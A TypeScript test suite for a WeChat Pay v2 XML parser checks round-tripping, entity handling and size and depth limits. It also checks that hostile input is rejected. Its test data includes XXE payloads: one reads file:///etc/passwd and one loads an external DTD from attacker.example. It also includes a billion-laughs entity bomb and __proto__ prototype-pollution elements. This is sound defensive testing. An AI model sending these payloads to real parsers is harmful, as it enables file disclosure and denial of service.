import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { PayError } from '../../../../lib/errors';
import { DEFAULT_MAX_XML_BYTES, buildXml, parseXml } from '../../../../lib/wechatpay/v2/xml';
import { v2Xml } from '../../../../scripts/simulator/messages';

/** Runs `f`, which must throw a PayError; returns it. */
function payErrorOf(f: () => unknown): PayError {
  try {
    f();
  } catch (err) {
    expect(err).toBeInstanceOf(PayError);
    return err as PayError;
  }
  throw new Error('expected a PayError, nothing was thrown');
}

const expectMalformed = (f: () => unknown) => expect(payErrorOf(f).kind).toBe('MALFORMED');
const plain = (fields: Record<string, string>) => ({ ...fields });

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];
/** Names that exist on Object.prototype: a naive parser mistakes them for repeated or inherited fields. */
const INHERITED_NAMES = [
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  '__defineGetter__',
  '__lookupSetter__',
];

const fieldName = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,24}$/).filter((n) => !PROTOTYPE_KEYS.includes(n)),
  },
  { weight: 1, arbitrary: fc.constantFrom(...INHERITED_NAMES, 'xml', 'sign', 'coupon_fee_0', '_') },
);

/**
 * One character XML 1.0 can carry in character data. CR is left out on purpose: XML end-of-line
 * handling turns every CR into LF before the parser sees it (tested separately below).
 */
const xmlChar = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      ']]>',
      ']]',
      ']',
      '<',
      '>',
      '&',
      '&amp;',
      '&lt;',
      '"',
      "'",
      '\t',
      '\n',
      ' ',
      '<![CDATA[',
      '<!',
      '0',
    ),
  },
  { weight: 6, arbitrary: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCodePoint(c)) },
  { weight: 2, arbitrary: fc.integer({ min: 0xa0, max: 0xd7ff }).map((c) => String.fromCodePoint(c)) },
  { weight: 1, arbitrary: fc.integer({ min: 0xe000, max: 0xfffd }).map((c) => String.fromCodePoint(c)) },
  { weight: 1, arbitrary: fc.integer({ min: 0x10000, max: 0x10ffff }).map((c) => String.fromCodePoint(c)) },
);
const xmlValue = fc.string({ unit: xmlChar, maxLength: 40 });
const fieldMap = fc.dictionary(fieldName, xmlValue, { maxKeys: 15, noNullPrototype: true });

describe('buildXml → parseXml', () => {
  it('round-trips arbitrary flat field maps exactly', () => {
    fc.assert(
      fc.property(fieldMap, (fields) => {
        const parsed = parseXml(buildXml(fields));
        expect(plain(parsed)).toEqual(fields);
        for (const value of Object.values(parsed)) expect(typeof value).toBe('string');
      }),
      { numRuns: 400 },
    );
  });

  it('round-trips under another root', () => {
    fc.assert(
      fc.property(fieldMap, (fields) => {
        expect(plain(parseXml(buildXml(fields, 'root'), 'root'))).toEqual(fields);
      }),
      { numRuns: 100 },
    );
  });

  it('reads what the independent simulator writes', () => {
    fc.assert(
      fc.property(fieldMap, (fields) => {
        expect(plain(parseXml(v2Xml(fields)))).toEqual(fields);
      }),
      { numRuns: 200 },
    );
  });

  it('keeps values as the exact strings sent: no number, boolean or trimming conversions', () => {
    const fields = {
      a: '007',
      b: '1e3',
      c: 'true',
      d: '0x10',
      e: ' 12 ',
      f: '',
      g: 'null',
      h: '-0',
      i: '1.50',
      j: 'NaN',
    };
    const parsed = parseXml(buildXml(fields));
    expect(plain(parsed)).toEqual(fields);
    // the same values without CDATA
    const bare = parseXml('<xml><a>007</a><b>1e3</b><c>true</c><e> 12 </e><i>1.50</i></xml>');
    expect(plain(bare)).toEqual({ a: '007', b: '1e3', c: 'true', e: ' 12 ', i: '1.50' });
  });

  it('keeps field names that exist on Object.prototype as ordinary fields', () => {
    const fields = Object.fromEntries(INHERITED_NAMES.map((n, i) => [n, String(i)]));
    const parsed = parseXml(buildXml(fields));
    expect(plain(parsed)).toEqual(fields);
    expect(Object.getPrototypeOf(parsed)).toBeNull();
  });

  it('splits ]]> across two CDATA sections and reads it back', () => {
    const xml = buildXml({ a: 'x]]>y]]>' });
    expect(xml).toBe('<xml><a><![CDATA[x]]]]><![CDATA[>y]]]]><![CDATA[>]]></a></xml>');
    expect(parseXml(xml).a).toBe('x]]>y]]>');
  });

  it('rejects a field name that is not an XML name', () => {
    expect(() => buildXml({ 'a b': '1' })).toThrow(TypeError);
    expect(() => buildXml({ '1a': '1' })).toThrow(TypeError);
    expect(() => buildXml({ 'a<b': '1' })).toThrow(TypeError);
  });
});

describe('parseXml on what WeChat sends', () => {
  it('reads CDATA, plain text, entities and mixed CDATA/text', () => {
    const parsed = parseXml(
      '<xml><a><![CDATA[<b>&amp;</b>]]></a><b>x &lt; y &amp; z</b><c>x<![CDATA[<y>]]>z</c><d><![CDATA[]]></d><e/><f><![CDATA[  ]]></f></xml>',
    );
    expect(plain(parsed)).toEqual({ a: '<b>&amp;</b>', b: 'x < y & z', c: 'x<y>z', d: '', e: '', f: '  ' });
  });

  it('ignores whitespace and indentation between elements, an XML declaration, comments and attributes', () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<xml>
  <!-- a comment -->
  <return_code><![CDATA[SUCCESS]]></return_code>
\t<total_fee>1</total_fee>
  <attach lang="zh">中文</attach>
</xml>
`;
    expect(plain(parseXml(xml))).toEqual({ return_code: 'SUCCESS', total_fee: '1', attach: '中文' });
  });

  it('reads past a > inside a quoted attribute value', () => {
    expect(plain(parseXml('<xml a=">"><b c=\'>\' d=">">1</b></xml>'))).toEqual({ b: '1' });
  });

  it('normalises CR and CRLF line ends to LF, as XML 1.0 requires', () => {
    expect(parseXml('<xml><a>x\r\ny\rz</a></xml>').a).toBe('x\ny\nz');
  });

  it('reads an empty root as no fields', () => {
    expect(plain(parseXml('<xml></xml>'))).toEqual({});
    expect(plain(parseXml('<xml/>'))).toEqual({});
    expect(plain(parseXml('<xml>\n  \n</xml>'))).toEqual({});
  });

  it('returns a map without a prototype', () => {
    expect(Object.getPrototypeOf(parseXml('<xml><a>1</a></xml>'))).toBeNull();
  });
});

describe('parseXml rejects hostile or malformed input with MALFORMED', () => {
  const xxe = `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://tst.qq.com/xxe_inject/probe">]>
<xml><return_code>&xxe;</return_code></xml>`;
  const fileXxe = '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>';
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><a>&lol9;</a></xml>`;
  const parameterEntity =
    '<!DOCTYPE xml [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><xml><a>1</a></xml>';
  const deep = (levels: number) => `<xml>${'<a>'.repeat(levels)}1${'</a>'.repeat(levels)}</xml>`;

  it.each([
    ['DOCTYPE with a SYSTEM entity (XXE)', xxe],
    ['DOCTYPE with a file SYSTEM entity', fileXxe],
    ['billion laughs entity expansion', billionLaughs],
    ['external parameter entity', parameterEntity],
    ['<!ENTITY without DOCTYPE', '<xml><!ENTITY x "y"><a>&x;</a></xml>'],
    ['lower-case doctype', '<!doctype xml><xml><a>1</a></xml>'],
    ['internal DTD without entities', '<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><a>1</a></xml>'],
    ['repeated tags', '<xml><a>1</a><a>2</a></xml>'],
    ['repeated tags far apart', '<xml><a>1</a><b>2</b><a>1</a></xml>'],
    ['nested elements', '<xml><a><b>1</b></a></xml>'],
    ['an element mixing text and children', '<xml><a>x<b>1</b></a></xml>'],
    ['stray text in the root', '<xml>text<a>1</a></xml>'],
    ['__proto__ element', '<xml><__proto__><polluted>1</polluted></__proto__></xml>'],
    ['__proto__ leaf element', '<xml><a>1</a><__proto__>x</__proto__></xml>'],
    ['constructor element', '<xml><constructor><prototype><polluted>1</polluted></prototype></constructor></xml>'],
    ['prototype element', '<xml><prototype>1</prototype></xml>'],
    ['self-closing __proto__', '<xml><__proto__/></xml>'],
    ['__proto__ as the root', '<__proto__><a>1</a></__proto__>'],
    ['wrong root', '<root><a>1</a></root>'],
    ['two roots', '<xml><a>1</a></xml><xml><b>2</b></xml>'],
    ['text after the root', '<xml><a>1</a></xml>trailing'],
    ['unclosed field', '<xml><a>1</xml>'],
    ['unclosed root', '<xml><a>1</a>'],
    ['mismatched tags', '<xml><a>1</b></xml>'],
    ['unterminated CDATA', '<xml><a><![CDATA[1</a></xml>'],
    ['empty body', ''],
    ['whitespace only', ' \n '],
    ['not XML at all', 'return_code=SUCCESS'],
    ['JSON', '{"return_code":"SUCCESS"}'],
    ['150 nested levels (small body, deeper than the parser allows)', deep(150)],
  ])('%s', (_label, xml) => {
    expectMalformed(() => parseXml(xml));
  });

  it('reads markup, not text: declarations and prototype names inside CDATA or escaped text are data', () => {
    for (const text of ['<constructor>', '<__proto__>', '<!DOCTYPE x>', '<!ENTITY y "z">', '</prototype>', '<!--']) {
      expect(parseXml(buildXml({ attach: text, b: '1' })).attach).toBe(text);
      const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
      expect(parseXml(`<xml><attach>${escaped}</attach></xml>`).attach).toBe(text);
    }
    // a CDATA end split across sections, holding a declaration either side
    expect(parseXml(buildXml({ attach: '<!DOCTYPE a>]]><!ENTITY b "c">' })).attach).toBe(
      '<!DOCTYPE a>]]><!ENTITY b "c">',
    );
  });

  it.each([
    [
      'a comment hiding a CDATA opener before a real DOCTYPE',
      '<!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY e "v">]><!-- ]]> --><xml><a>&e;</a></xml>',
    ],
    ['an attribute value opening a pretend CDATA section', '<xml><a x="<![CDATA["/><!DOCTYPE y><b x="]]>">1</b></xml>'],
    ['a "<" inside a tag', '<xml><a x="a<b">1</a></xml>'],
    ['a declaration inside a comment', '<!-- <!DOCTYPE x> --><xml><a>1</a></xml>'],
    ['a declaration inside a processing instruction', '<?pi <!ENTITY e "v"> ?><xml><a>1</a></xml>'],
    ['an unterminated comment', '<xml><a>1</a><!-- </xml>'],
    ['an unterminated processing instruction', '<?xml version="1.0"<xml><a>1</a></xml>'],
    ['a declaration after a CDATA section', '<xml><a><![CDATA[x]]><!ENTITY e "v"></a></xml>'],
    ['a prototype element after a CDATA section', '<xml><a><![CDATA[<b>]]></a><constructor>1</constructor></xml>'],
  ])('still refuses markup: %s', (_label, xml) => {
    expectMalformed(() => parseXml(xml));
  });

  it('rejects the wrong root when another root is expected', () => {
    expectMalformed(() => parseXml('<xml><a>1</a></xml>', 'root'));
  });

  it('rejects 10 000 nested levels without a stack overflow, whatever the size cap', () => {
    expectMalformed(() => parseXml(deep(10_000)));
    expectMalformed(() => parseXml(deep(10_000), 'xml', 1 << 20));
    expectMalformed(() => parseXml(deep(100_000), 'xml', 4 << 20));
  });

  it('enforces the size cap in UTF-8 bytes, before parsing', () => {
    const shell = '<xml><a></a></xml>'.length;
    const atCap = `<xml><a>${'x'.repeat(DEFAULT_MAX_XML_BYTES - shell)}</a></xml>`;
    expect(Buffer.byteLength(atCap)).toBe(DEFAULT_MAX_XML_BYTES);
    expect(parseXml(atCap).a).toHaveLength(DEFAULT_MAX_XML_BYTES - shell);
    expectMalformed(() => parseXml(`<xml><a>${'x'.repeat(DEFAULT_MAX_XML_BYTES - shell + 1)}</a></xml>`));
    // 中 is three bytes: a third as many characters already reach the cap
    expectMalformed(() => parseXml(`<xml><a>${'中'.repeat(Math.ceil(DEFAULT_MAX_XML_BYTES / 3))}</a></xml>`));
    // a 1 MB body, and a caller-chosen cap
    expectMalformed(() => parseXml(`<xml><a>${'x'.repeat(1 << 20)}</a></xml>`));
    expectMalformed(() => parseXml('<xml><a>12345</a></xml>', 'xml', 22));
    expect(parseXml('<xml><a>1234</a></xml>', 'xml', 22).a).toBe('1234');
  });

  it('never throws anything but a PayError, and never pollutes Object.prototype', () => {
    const hostile = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc
        .array(
          fc.constantFrom(
            '<xml>',
            '</xml>',
            '<a>',
            '</a>',
            '<__proto__>',
            '</__proto__>',
            '<constructor>',
            '<![CDATA[',
            ']]>',
            '<!DOCTYPE x [',
            '<!ENTITY e "v">',
            ']>',
            '&e;',
            '<polluted>',
            'yes',
            '</polluted>',
            '<?xml version="1.0"?>',
            '<!--',
            '-->',
            '<toString>',
            '</toString>',
          ),
          { maxLength: 20 },
        )
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(hostile, (xml) => {
        try {
          const fields = parseXml(xml);
          for (const [key, value] of Object.entries(fields)) {
            expect(PROTOTYPE_KEYS).not.toContain(key);
            expect(typeof value).toBe('string');
          }
        } catch (err) {
          expect(err).toBeInstanceOf(PayError);
          expect((err as PayError).kind).toBe('MALFORMED');
        }
      }),
      { numRuns: 500 },
    );
    const probe: Record<string, unknown> = {};
    expect(probe.polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
    expect(Object.getPrototypeOf(probe)).toBe(Object.prototype);
  });
});

// Added from mutation testing (npm run mutation): the strict flat reader and the well-formedness
// validator each have to hold their own, and the edges of XML that WeChat may legally send must read.
describe('parseXml edges (mutation-tested)', () => {
  it('decodes all five predefined entities, once', () => {
    expect(parseXml('<xml><a>&lt;&gt;&amp;&quot;&apos;</a><b>&amp;lt;&amp;amp;</b></xml>').a).toBe(`<>&"'`);
    expect(parseXml('<xml><b>&amp;lt;&amp;amp;</b></xml>').b).toBe('&lt;&amp;');
  });

  it('accepts white space inside the root tag and end tags, and a byte-order mark', () => {
    expect(plain(parseXml('<xml ><a>1</a ></xml >'))).toEqual({ a: '1' });
    expect(plain(parseXml('<xml\n><a>1</a\t></xml\n>'))).toEqual({ a: '1' });
    expect(plain(parseXml('\uFEFF<xml><a>1</a></xml>'))).toEqual({ a: '1' });
  });

  it('accepts processing instructions and comments before and after the root, but no PI inside it', () => {
    expect(plain(parseXml('<?xml version="1.0"?><?pi x?><!--c--><?pi y?>\n<xml><a>1</a></xml>'))).toEqual({ a: '1' });
    expect(plain(parseXml('<xml><a>1</a></xml>\n<?pi x?>\n<!-- c -->\n'))).toEqual({ a: '1' });
    expect(plain(parseXml('<xml><!-->x--><a>1</a><!----></xml>'))).toEqual({ a: '1' });
    expect(payErrorOf(() => parseXml('<xml><?pi x?><a>1</a></xml>')).reason).toBe(
      'XML root holds a processing instruction',
    );
    expect(payErrorOf(() => parseXml('<xml><a>1</a><?pi x?></xml>')).reason).toBe(
      'XML root holds a processing instruction',
    );
  });

  it.each([
    ['another empty root', '<other/>'],
    ['a longer root name, self-closed', '<xmlx/>'],
    ['a longer root name', '<xmlx><a>1</a></xmlx>'],
    ['a prefixed root', '<x:xml xmlns:x="urn:x"><a>1</a></x:xml>'],
  ])('rejects %s as the wrong root', (_label, xml) => {
    expect(payErrorOf(() => parseXml(xml)).reason).toBe('XML root must be <xml>');
  });

  it.each([
    ['CDATA directly in the root', '<xml><![CDATA[x]]></xml>'],
    ['a root closed by a longer name', '<xml><a>1</a></xmlx>'],
    ['an end tag with an attribute', '<xml><a>1</a foo></xml>'],
    ['an attribute without a value', '<xml><a b>1</a></xml>'],
    ['an unquoted attribute', '<xml><a b=1>1</a></xml>'],
    ['a repeated attribute', '<xml><a b="1" b="2">1</a></xml>'],
    ['a constructor leaf element', '<xml><constructor>1</constructor></xml>'],
  ])('rejects %s as MALFORMED', (_label, xml) => {
    expectMalformed(() => parseXml(xml));
  });

  it('refuses what the validator lets through: characters XML 1.0 forbids, and ]]> in text', () => {
    for (const c of ['\u0000', '\u0001', '\u0008', '\u000B', '\u000C', '\u001F', '\uFFFE', '\uFFFF']) {
      expect(payErrorOf(() => parseXml(`<xml><a>x${c}y</a></xml>`)).reason, JSON.stringify(c)).toBe(
        'XML holds characters XML 1.0 forbids',
      );
    }
    expect(plain(parseXml('<xml><a>\ty\n</a></xml>'))).toEqual({ a: '\ty\n' });
    expect(payErrorOf(() => parseXml('<xml><a>x]]>y</a></xml>')).reason).toBe('XML text holds a CDATA end marker');
    expect(plain(parseXml('<xml><a>x]]&gt;y</a></xml>'))).toEqual({ a: 'x]]>y' });
  });

  it('says why the root is not a flat field map', () => {
    expect(payErrorOf(() => parseXml('<xml>text<a>1</a></xml>')).reason).toBe('XML root holds stray text');
    expect(payErrorOf(() => parseXml('<xml><![CDATA[x]]></xml>')).reason).toBe('XML is not a flat field map');
  });

  it('says which markup the gate refuses, before the validator sees it', () => {
    const reasons: [string, string][] = [
      ['<xml><a><![CDATA[1</a></xml>', 'XML holds an unterminated CDATA section'],
      ['<xml><a>1</a><!-- </xml>', 'XML holds an unterminated comment'],
      ['<?xml version="1.0"<xml><a>1</a></xml>', 'XML holds an unterminated processing instruction'],
      ['<!DOCTYPE x><xml><a>1</a></xml>', 'XML declarations (DOCTYPE/ENTITY) are not accepted'],
      ['<!-- <!DOCTYPE x> --><xml><a>1</a></xml>', 'XML declarations (DOCTYPE/ENTITY) are not accepted'],
      ['<?pi <!ENTITY e "v"> ?><xml><a>1</a></xml>', 'XML declarations (DOCTYPE/ENTITY) are not accepted'],
      ['<xml><a x="a<b">1</a></xml>', 'XML tag holds a "<"'],
      ['<xml', 'XML is not well-formed'],
    ];
    for (const [xml, reason] of reasons) expect(payErrorOf(() => parseXml(xml)).reason, xml).toBe(reason);
    // a comment or processing instruction is judged by its own text, not by the rest of the document
    expect(parseXml('<!-- c --><xml><a><![CDATA[<!DOCTYPE x>]]></a></xml>').a).toBe('<!DOCTYPE x>');
    expect(parseXml('<?pi x?><xml><a><![CDATA[<!ENTITY y "z">]]></a></xml>').a).toBe('<!ENTITY y "z">');
  });

  it('says why a field is refused: a prototype name, or an element inside it', () => {
    for (const name of PROTOTYPE_KEYS) {
      expect(payErrorOf(() => parseXml(`<xml><a>1</a><${name}>x</${name}></xml>`)).reason).toBe(
        'XML element name not accepted',
      );
    }
    // an element whose name ends like the field's is not the field's end tag
    for (const xml of ['<xml><a>x<ba></ba></a></xml>', '<xml><a>x<ba/></a></xml>', '<xml><a>x<?a?></a></xml>']) {
      expect(payErrorOf(() => parseXml(xml)).reason, xml).toBe('XML field a is not plain text');
    }
  });

  it('names the offending field in the reason, but only a short and valid name', () => {
    expect(payErrorOf(() => parseXml('<xml><a>1</a><a>2</a></xml>')).reason).toBe('XML field a is repeated');
    expect(payErrorOf(() => parseXml('<xml><a>1<b/></a></xml>')).reason).toBe('XML field a is not plain text');
    const n64 = 'n'.repeat(64);
    const n65 = 'n'.repeat(65);
    expect(payErrorOf(() => parseXml(`<xml><${n64}>1</${n64}><${n64}/></xml>`)).reason).toBe(
      `XML field ${n64} is repeated`,
    );
    expect(payErrorOf(() => parseXml(`<xml><${n65}>1</${n65}><${n65}/></xml>`)).reason).toBe(
      'XML field (invalid name) is repeated',
    );
  });
});
